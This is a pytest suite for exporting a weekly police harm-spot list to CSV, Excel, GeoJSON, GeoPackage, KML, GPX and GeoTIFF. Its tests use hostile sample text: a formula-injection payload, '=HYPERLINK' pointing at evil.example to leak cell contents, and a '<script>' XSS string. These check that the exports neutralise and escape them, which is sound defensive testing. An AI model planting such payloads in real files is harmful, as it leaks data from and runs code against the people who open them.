"""Exports of the weekly harm-spot list: each format read back with the library that reads it."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import xml.etree.ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import rasterio
import shapely
from shapely import affinity
from hypothesis import given, settings
from hypothesis import strategies as st
from pyproj import CRS

from rtm.exports import (briefing_html, csv_bytes, excel_safe, excel_unsafe, geojson_bytes, geopackage_bytes,
                         geotiff_bytes, gpx_bytes, kml_bytes, prepare, read_csv_bytes, write_exports, xlsx_bytes)
from rtm.exports.table import NAMES
from rtm.exports.text import prov_value
from rtm.grid import Grid
from tiff_tags import MINISBLACK, photometric

KML = "{http://www.opengis.net/kml/2.2}"
BNG = "EPSG:27700"
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A2)", "\t=x", "\r=x",
         "a, b", 'say "hi"', "line1\nline2", "Café – Straße ✓ 東京", "'quoted", "NA", "None", "<script>alert(1)</script>"]

COLUMNS = ["rank", "spot_id", "district", "cells", "easting", "northing", "lat", "lon", "location",
           "harm_recent", "harm_year", "counts_by_type", "rrs", "factors_present", "score", "score_harm",
           "score_risk", "explanation", "conjunctive", "movement", "previous_rank", "weeks_on_list", "peak_times",
           "patrol_visits_per_day", "patrol_minutes"]


def cell(e, n, k=1):
    """``k`` 150 m cells side by side, lower-left corner at (e, n)."""
    return shapely.box(e, n, e + 150 * k, n + 150)


def make_spots(locations=("On or near Pier Hill", "On or near High Street", "On or near Marine Parade")):
    """Three spots in two Southend districts (one merged two-cell spot) in BNG."""
    geoms = [cell(588000, 186000, 2), cell(588600, 185700), shapely.MultiPolygon([cell(583800, 187050)])]
    frame = gpd.GeoDataFrame({
        "rank": [1, 2, 1],
        "spot_id": ["150m-E588000-N186000", "150m-E588600-N185700", "150m-E583800-N187050"],
        "district": ["Southend-on-Sea", "Southend-on-Sea", "Castle Point"],
        "cells": [2, 1, 1],
        "easting": [588150.0, 588675.0, 583875.0],
        "northing": [186075.0, 185775.0, 187125.0],
        "lat": [51.5404, 51.5375, 51.5510],
        "lon": [0.7118, 0.7193, 0.6510],
        "location": list(locations),
        "harm_recent": [365.0, 120.5, 30.25],
        "harm_year": [2400.0, 980.0, 1e-05],
        "counts_by_type": ["Violence and sexual offences 12; Public order 3", "Robbery 2", "Burglary 1"],
        "rrs": [3.2, np.nan, -1.5],
        "factors_present": ["pubs; bus stops", "", "shops"],
        "score": [0.91, 0.45, -0.1],
        "score_harm": [0.6, 0.3, 0.1],
        "score_risk": [0.31, 0.15, -0.2],
        "explanation": ["high recent harm", "steady harm", "near shops"],
        "conjunctive": [True, False, True],
        "movement": ["new", "up", "same"],
        "previous_rank": [np.nan, 4.0, 1.0],
        "weeks_on_list": [1, 3, 10],
        "peak_times": ["Fri-Sat 22:00-02:00", "not available (monthly data)", "Sun 12:00-16:00"],
        "patrol_visits_per_day": [3, 2, 1],
        "patrol_minutes": [15, 15, 10],
    }, geometry=geoms, crs=BNG)
    assert list(frame.columns[:-1]) == COLUMNS
    return frame


def make_provenance():
    return {"product": "Harm spots", "period": "2019-01-07 to 2019-01-13 (week)", "period_start": "2019-01-07",
            "period_end": "2019-01-14", "data_window": "2018-01-07 to 2019-01-13",
            "parameters": {"cell_size_m": 150, "top_n": 10, "weights": "CCHI"},
            "inputs": [{"file": "2019-01-essex-street.csv", "sha256": "ab" * 32, "rows": 123}],
            "software": "rtm-harmspots 0.1.0", "crs": BNG,
            "columns": {"harm_recent": "harm (CCHI days) in the 4 weeks before the period"}}


@pytest.fixture
def spots():
    return make_spots()


@pytest.fixture
def empty():
    return make_spots().iloc[:0]


@pytest.fixture
def prov():
    return make_provenance()


@pytest.fixture
def districts():
    return gpd.GeoDataFrame({"name": ["Basildon", "Castle Point", "Southend-on-Sea"]},
                            geometry=[shapely.box(568000, 186000, 576000, 192000), shapely.box(578000, 184000, 585000, 190000),
                                      shapely.box(585000, 184000, 593000, 189000)], crs=BNG)



def _csv_lines(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- the prepared table -------------------------------------------------------------------
def test_prepare_columns_types_rounding(spots, prov):
    t = prepare(spots, prov)
    assert list(t.frame.columns) == NAMES
    assert t.frame["period"].tolist() == [prov["period"]] * 3
    assert t.frame["period_start"].iloc[0] == "2019-01-07" and t.frame["period_end"].iloc[0] == "2019-01-13"
    assert t.frame["grid_ref"].tolist() == ["TQ 8815 8607", "TQ 8867 8577", "TQ 8387 8712"]
    assert t.frame["easting"].dtype == np.int64 and t.frame["previous_rank"].dtype == np.float64
    assert t.frame["harm_year"].tolist() == [2400.0, 980.0, 0.0]  # 1 decimal
    assert t.titles["harm_recent"] == "Harm, last 4 weeks (CCHI days)"
    # the same types with no rows, and with every optional value missing
    empty = prepare(spots.iloc[:0], prov).frame
    assert empty.dtypes.tolist() == t.frame.dtypes.tolist()
    bare = spots.copy()
    bare["previous_rank"] = np.nan
    bare["rrs"] = np.nan
    assert prepare(bare, prov).frame.dtypes.tolist() == t.frame.dtypes.tolist()


# -- CSV ----------------------------------------------------------------------------------
def test_csv_header_on_row_one_and_pandas_reads_it(spots, prov, tmp_path):
    data = csv_bytes(spots, prov)
    assert data.startswith(b"\xef\xbb\xbfperiod,period_start,period_end,district,rank,")
    path = tmp_path / "list.csv"
    path.write_bytes(data)
    table = pd.read_csv(path)  # no options at all
    assert list(table.columns) == NAMES and len(table) == 3
    assert table["rank"].tolist() == [1, 2, 1] and table["rank"].dtype == np.int64
    assert table["score"].tolist() == [0.91, 0.45, -0.1] and table["lat"].tolist() == spots["lat"].tolist()
    assert table["conjunctive"].tolist() == [True, False, True]
    assert table["period"].unique().tolist() == [prov["period"]]
    assert math.isnan(table["previous_rank"].iloc[0]) and table["previous_rank"].iloc[1] == 4


def test_csv_types_do_not_change_between_weeks(spots, prov, tmp_path):
    first = spots.copy()
    first["previous_rank"] = np.nan  # a first week: nothing to compare with
    first["movement"] = "new"
    dtypes = []
    for k, frame in enumerate([first, spots]):
        path = tmp_path / f"w{k}.csv"
        path.write_bytes(csv_bytes(frame, prov))
        dtypes.append(pd.read_csv(path).dtypes.tolist())
    assert dtypes[0] == dtypes[1]


def test_csv_opens_as_points_in_gdal(spots, prov, tmp_path):
    paths = write_exports(spots, prov, tmp_path, stem="list")
    info = pyogrio.read_info(paths["csv"])
    assert info["geometry_type"] == "Point" and CRS(info["crs"]).to_epsg() == 4326
    types = dict(zip(info["fields"], info["dtypes"]))
    assert types["rank"] == "int64" and types["score"] == "float64" and types["location"] == "object"
    back = pyogrio.read_dataframe(paths["csv"])
    assert len(back) == 3
    np.testing.assert_allclose(back.geometry.x, spots["lon"])
    np.testing.assert_allclose(back.geometry.y, spots["lat"])
    side = json.loads(paths["provenance"].read_text(encoding="utf-8"))
    assert side["period"] == prov["period"] and side["inputs"][0]["sha256"] == "ab" * 32


def test_csv_is_deterministic(prov):
    assert csv_bytes(make_spots(), make_provenance()) == csv_bytes(make_spots(), prov)


def test_csv_neutralises_nasty_text(prov, tmp_path):
    nasty = NASTY[:3]
    frame = make_spots(nasty)
    frame["explanation"] = NASTY[3:6]
    frame["counts_by_type"] = NASTY[6:9]
    frame["factors_present"] = NASTY[9:12]
    frame["peak_times"] = NASTY[11:14]
    data = csv_bytes(frame, {**prov, "period": "-2+3"})
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    for row in _csv_lines(data):
        for text in row:
            assert numbers.fullmatch(text) or not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), text
    table = read_csv_bytes(data)
    assert table["period"].tolist() == ["-2+3"] * 3
    assert table["location"].tolist() == nasty
    assert table["explanation"].tolist() == NASTY[3:6]
    assert table["counts_by_type"].tolist() == NASTY[6:9]
    assert table["peak_times"].tolist() == NASTY[11:14]  # "NA" and "None" stay text
    raw = read_csv_bytes(data, restore_text=False)
    assert raw["location"].tolist() == ["'" + s for s in nasty]


_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=100, deadline=None)
@given(st.lists(_TEXT, min_size=1, max_size=4))
def test_csv_text_cells_never_start_dangerous(texts):
    frame = make_spots().iloc[[0] * len(texts)].reset_index(drop=True)
    frame["location"] = texts
    rows = _csv_lines(csv_bytes(frame, {"product": "x"}))
    col = rows[0].index("location")
    for row, original in zip(rows[1:], texts):
        assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[col] == excel_safe(original) and excel_unsafe(row[col]) == original


def test_csv_empty_list(empty, prov, tmp_path):
    path = tmp_path / "e.csv"
    path.write_bytes(csv_bytes(empty, prov))
    table = pd.read_csv(path)
    assert list(table.columns) == NAMES and len(table) == 0


# -- Excel --------------------------------------------------------------------------------
def test_xlsx_sheets_header_formats_and_no_formulas(prov):
    import openpyxl

    frame = make_spots(['=HYPERLINK("http://evil.example","x")', "+1", "bell \x07 in text"])
    data = xlsx_bytes(frame, {**prov, "notes": ["3 cells were left out"], "odd": "nul \x00"})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Harm spots", "Castle Point", "Southend-on-Sea", "About"]
    ws = wb["Harm spots"]
    titles = [c.value for c in ws[1]]
    assert titles[NAMES.index("harm_recent")] == "Harm, last 4 weeks (CCHI days)"
    assert "OS grid reference" in titles and ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    assert ws.max_row == 4 and ws["E2"].value == 1  # rank as a number
    score = ws.cell(row=2, column=NAMES.index("score") + 1)
    assert score.value == 0.91 and score.number_format == "0.00"
    assert ws.column_dimensions["G"].width > 20  # location
    loc = ws.cell(row=2, column=NAMES.index("location") + 1)
    assert loc.value.startswith("=HYPERLINK") and loc.data_type == "s"
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)
    empty_prev = ws.cell(row=2, column=NAMES.index("previous_rank") + 1)
    assert empty_prev.value is None
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows() if r[0].value}
    assert about["period"] == prov["period"] and about["Note"] == "3 cells were left out"
    assert wb["Southend-on-Sea"].max_row == 3
    assert wb["Castle Point"]["G2"].value == "bell \ufffd in text"


# -- GeoJSON ------------------------------------------------------------------------------
def test_geojson_content_and_types(spots, prov, tmp_path):
    data = geojson_bytes(spots, prov)
    doc = json.loads(data)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert doc["provenance"] == json.loads(json.dumps(prov))
    first = doc["features"][0]
    assert list(first["properties"]) == NAMES
    assert first["properties"]["previous_rank"] is None and first["properties"]["conjunctive"] is True
    assert first["properties"]["rank"] == 1 and first["properties"]["grid_ref"] == "TQ 8815 8607"
    ring = np.array(first["geometry"]["coordinates"][0])
    assert 0.70 < ring[:, 0].min() < 0.72 and 51.53 < ring[:, 1].min() < 51.55  # lon, lat order
    assert shapely.Polygon(ring).exterior.is_ccw  # RFC 7946 winding
    assert geojson_bytes(make_spots(), make_provenance()) == data
    path = tmp_path / "spots.geojson"
    path.write_bytes(data)
    info = pyogrio.read_info(path)
    types = dict(zip(info["fields"], info["dtypes"]))
    assert types["rank"] == "int32" and types["rrs"] == "float64" and types["previous_rank"] == "float64"


def test_geojson_empty(empty, prov):
    doc = json.loads(geojson_bytes(empty, prov))
    assert doc["features"] == [] and doc["provenance"]["product"] == "Harm spots"


# -- GeoPackage ---------------------------------------------------------------------------
def test_geopackage_version_types_style_provenance(spots, prov, tmp_path):
    path = tmp_path / "spots.gpkg"
    path.write_bytes(geopackage_bytes(spots, prov))
    import sqlite3

    con = sqlite3.connect(path)
    app_id, version = con.execute("PRAGMA application_id").fetchone()[0], con.execute("PRAGMA user_version").fetchone()[0]
    con.close()
    assert app_id == 0x47504B47 and version == 10200  # "GPKG", version 1.2
    layers = {name for name, _ in pyogrio.list_layers(path)}
    assert layers == {"harm_spots", "provenance", "layer_styles"}
    info = pyogrio.read_info(path, layer="harm_spots")
    assert json.loads(info["layer_metadata"]["PROVENANCE"]) == json.loads(json.dumps(prov))
    assert info["geometry_type"] == "MultiPolygon" and CRS(info["crs"]) == CRS(BNG)
    types = dict(zip(info["fields"], info["dtypes"]))
    # an empty week has exactly the same fields and types
    path_e = tmp_path / "empty.gpkg"
    bare = spots.iloc[:0]
    path_e.write_bytes(geopackage_bytes(bare, prov))
    info_e = pyogrio.read_info(path_e, layer="harm_spots")
    assert dict(zip(info_e["fields"], info_e["dtypes"])) == types
    assert types["rank"] == "int64" and types["previous_rank"] == "float64" and types["conjunctive"] == "bool"
    back = pyogrio.read_dataframe(path, layer="harm_spots")
    for a, b in zip(back.geometry.values, spots.geometry.values):
        assert a.equals(b)
    style = pyogrio.read_dataframe(path, layer="layer_styles")
    assert style["f_table_name"].tolist() == ["harm_spots"] and "<renderer-v2" in style["styleQML"].iloc[0]
    assert style["f_geometry_column"].tolist() == [info["geometry_name"]]  # what QGIS matches the style on
    ET.fromstring(style["styleQML"].iloc[0].split("\n", 1)[1])  # well-formed XML
    table = pyogrio.read_dataframe(path, layer="provenance")
    assert dict(zip(table["key"], table["value"]))["period"] == prov["period"]


# -- KML ----------------------------------------------------------------------------------
def _kml(data):
    return ET.fromstring(data)


def test_kml_pins_squares_schema_folders(spots, prov, tmp_path):
    data = kml_bytes(spots, prov)
    root = _kml(data)
    doc = root.find(f"{KML}Document")
    assert doc.findtext(f"{KML}name") == "Harm spots 2019-01-07 to 2019-01-13 (week)"
    schema = doc.find(f"{KML}Schema")
    types = {f.get("name"): f.get("type") for f in schema.findall(f"{KML}SimpleField")}
    assert types["rank"] == "int" and types["score"] == "double" and types["location"] == "string"
    folders = doc.findall(f"{KML}Folder")
    assert [f.findtext(f"{KML}name") for f in folders] == ["Southend-on-Sea", "Castle Point"]
    pins = [m for m in doc.iter(f"{KML}Placemark") if m.find(f"{KML}Point") is not None]
    assert [m.findtext(f"{KML}name") for m in pins] == [
        "Southend-on-Sea #1 On or near Pier Hill", "Southend-on-Sea #2 On or near High Street",
        "Castle Point #1 On or near Marine Parade"]
    lon, lat = map(float, pins[0].findtext(f"{KML}Point/{KML}coordinates").split(","))
    assert (lon, lat) == (0.7118, 51.5404)
    fields = {d.get("name"): d.text for d in pins[1].iter(f"{KML}SimpleData")}
    assert "rrs" not in fields and fields["harm_recent"] == "120.5"  # missing: left out, not ""
    desc = pins[0].findtext(f"{KML}description")
    assert "TQ 8815 8607" in desc and "3 visits a day, 15 min each" in desc
    squares = [m for m in doc.iter(f"{KML}Placemark") if m.find(f".//{KML}Polygon") is not None]
    assert len(squares) == 3
    path = tmp_path / "spots.kml"
    path.write_bytes(data)
    points = 0
    for name, _ in pyogrio.list_layers(path):
        frame = pyogrio.read_dataframe(path, layer=name)
        points += int((frame.geometry.geom_type == "Point").sum())
        info = pyogrio.read_info(path, layer=name)
        ftypes = dict(zip(info["fields"], info["dtypes"]))
        assert ftypes["rank"] in ("int32", "int64") and ftypes["score"] == "float64"
    assert points == len(spots)


def test_kml_escapes_user_text(prov):
    nasty = ["<script>alert(1)</script>", "A & B ]]> \x01 bell", 'quote " and \' apostrophe']
    frame = make_spots(nasty)
    frame.loc[0, "peak_times"] = "<b>bold</b>"
    data = kml_bytes(frame, {**prov, "note": "<x>&"})
    assert b"<script>" not in data and b"<b>bold" not in data
    names = [m.findtext(f"{KML}name") for m in _kml(data).iter(f"{KML}Placemark")]
    assert names[0] == "Southend-on-Sea #1 <script>alert(1)</script>"
    assert names[2] == "Southend-on-Sea #2 A & B ]]> \ufffd bell"


_XML_SAFE = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)


@settings(max_examples=40, deadline=None)
@given(_XML_SAFE, _XML_SAFE)
def test_kml_text_round_trips(location, key_text):
    frame = make_spots([location, "b", "c"])
    root = _kml(kml_bytes(frame, {"product": key_text}))
    mark = next(root.iter(f"{KML}Placemark"))
    fields = {d.get("name"): d.text for d in mark.iter(f"{KML}SimpleData")}
    assert (fields.get("location") or "") == location
    doc_data = root.find(f"{KML}Document/{KML}ExtendedData/{KML}Data")
    assert (doc_data.findtext(f"{KML}value") or "") == prov_value(key_text)


# -- GPX ----------------------------------------------------------------------------------
def test_gpx_waypoints_and_routes(spots, prov, tmp_path):
    import gpxpy

    data = gpx_bytes(spots, prov)
    gpx = gpxpy.parse(data.decode("utf-8"))
    assert [w.name for w in gpx.waypoints][0] == "Southend-on-Sea #1 On or near Pier Hill"
    assert (gpx.waypoints[0].latitude, gpx.waypoints[0].longitude) == (51.5404, 0.7118)
    assert "TQ 8815 8607" in gpx.waypoints[0].description
    assert len(gpx.routes) == 3 and len(gpx.routes[0].points) == 5  # a closed square
    odd = gpxpy.parse(gpx_bytes(make_spots(["<b> & \x01", "b", "c"]), prov).decode("utf-8"))
    assert odd.waypoints[0].name == "Southend-on-Sea #1 <b> & \ufffd"
    path = tmp_path / "spots.gpx"
    path.write_bytes(data)
    wpts = pyogrio.read_dataframe(path, layer="waypoints")
    assert len(wpts) == len(spots)
    assert len(pyogrio.read_dataframe(path, layer="routes")) == 3


# -- GeoTIFF ------------------------------------------------------------------------------
def make_grid():
    mask = np.ones((4, 5), bool)
    mask[0, 0] = False
    return Grid(150.0, 587700.0, 186600.0, 5, 4, CRS.from_epsg(27700), mask,
                np.where(mask, 0, -1).astype("int32"), ("Southend-on-Sea",))


def test_geotiff_is_a_cog_with_named_bands(prov, tmp_path):
    grid = make_grid()
    harm = np.arange(20, dtype=float).reshape(4, 5)
    risk = np.full((4, 5), 1.5)
    risk[1, 1] = np.nan
    data = geotiff_bytes(grid, {"harm_surface": harm, "risk_terrain": risk, "score": harm / 19}, prov)
    path = tmp_path / "s.tif"
    path.write_bytes(data)
    assert photometric(path) == MINISBLACK  # three bands, but not an RGB picture
    with rasterio.MemoryFile(data) as mem, mem.open() as src:
        assert src.count == 3 and src.dtypes == ("float32",) * 3
        assert src.descriptions == ("harm_surface", "risk_terrain", "score")
        assert src.crs.to_epsg() == 27700 and src.transform == grid.transform
        assert math.isnan(src.nodata) and src.tags(ns="IMAGE_STRUCTURE")["LAYOUT"] == "COG"
        assert src.colorinterp[0].name == "gray"
        assert json.loads(src.tags()["PROVENANCE"]) == json.loads(json.dumps(prov))
        band = src.read(1)
        assert math.isnan(band[0, 0])  # outside the area
        np.testing.assert_array_equal(band[grid.mask], harm[grid.mask].astype("float32"))


def test_cog_has_tiles_and_overviews_when_large(tmp_path):
    from rtm.exports import write_cog

    n = 700
    grid = Grid(150.0, 500000.0, 300000.0, n, n, CRS.from_epsg(27700), np.ones((n, n), bool),
                np.zeros((n, n), np.int32), ("a",))
    bands = {"pubs_proximity_200": np.random.default_rng(0).random((n, n)) > 0.5,
             "bars": np.zeros((n, n)), "shops": np.ones((n, n))}
    path = write_cog(tmp_path / "f.tif", grid, bands, dtype="uint8")  # 3 byte bands: what GDAL takes for RGB
    assert photometric(path) == MINISBLACK
    with rasterio.open(path) as src:
        assert src.descriptions == tuple(bands) and src.nodata == 255
        assert src.block_shapes[0] == (256, 256) and src.overviews(1) and src.overviews(3)
        assert src.colorinterp[0].name == "gray"
        np.testing.assert_array_equal(src.read(1), bands["pubs_proximity_200"])
    floats = write_cog(tmp_path / "g.tif", grid, {"a": np.ones((n, n)), "b": np.zeros((n, n))})
    with rasterio.open(floats) as src:
        assert src.tags(ns="IMAGE_STRUCTURE")["LAYOUT"] == "COG" and src.overviews(1)


def test_geotiff_rejects_wrong_shape(prov):
    with pytest.raises(ValueError, match="shape"):
        geotiff_bytes(make_grid(), {"score": np.zeros((3, 3))}, prov)
    with pytest.raises(ValueError):
        geotiff_bytes(make_grid(), {}, prov)


# -- all at once --------------------------------------------------------------------------
def test_write_exports(spots, prov, districts, tmp_path):
    grid = make_grid()
    paths = write_exports(spots, prov, tmp_path / "out", stem="hs", grid=grid,
                          surfaces={"score": np.ones(grid.shape)}, districts=districts, generated="2026-12-01")
    assert {k: p.name for k, p in paths.items()} == {
        "csv": "hs.csv", "csvt": "hs.csvt", "prj": "hs.prj", "provenance": "hs.provenance.json", "xlsx": "hs.xlsx",
        "geojson": "hs.geojson", "gpkg": "hs.gpkg", "kml": "hs.kml", "gpx": "hs.gpx",
        "briefing": "hs_briefing.html", "briefing_pdf": "hs_briefing.pdf", "tif": "hs_surfaces.tif",
        "tif_style": "hs_surfaces.qml"}
    assert all(p.stat().st_size > 0 for p in paths.values())
    assert paths["csv"].read_bytes() == csv_bytes(spots, prov)
    assert "<rasterrenderer" in paths["tif_style"].read_text()
    assert "tif" not in write_exports(spots.iloc[:0], prov, tmp_path / "e", stem="x")


def test_missing_text_and_utm_crs(prov, tmp_path):
    """Chicago-style list in UTM 16N: no grid reference, every export still works."""
    frame = make_spots(["41.88209, -87.62703", "41.88614, -87.62707", "W Madison St"])
    shift = affinity.translate
    frame = frame.set_geometry([shift(g, 448000 - 588000, 4636000 - 186000) for g in frame.geometry],
                               crs="EPSG:32616")
    frame["district"] = ["1", "1", "12"]
    names = [m.findtext(f"{KML}name") for m in _kml(kml_bytes(frame, prov)).iter(f"{KML}Placemark")]
    assert names[0] == "District 1 #1 41.88209, -87.62703" and names[-1] == "District 12 #1 W Madison St"
    table = read_csv_bytes(csv_bytes(frame, prov))
    assert table["grid_ref"].isna().all()
    doc = json.loads(geojson_bytes(frame, prov))
    lon, lat = doc["features"][2]["geometry"]["coordinates"][0][0][0]
    assert -87.7 < lon < -87.5 and 41.8 < lat < 41.9  # Chicago
    path = tmp_path / "c.gpkg"
    path.write_bytes(geopackage_bytes(frame, prov))
    assert CRS(pyogrio.read_info(path, layer="harm_spots")["crs"]) == CRS("EPSG:32616")
    page = briefing_html(frame, prov).decode()
    assert ">nan<" not in page and "District 12" in page
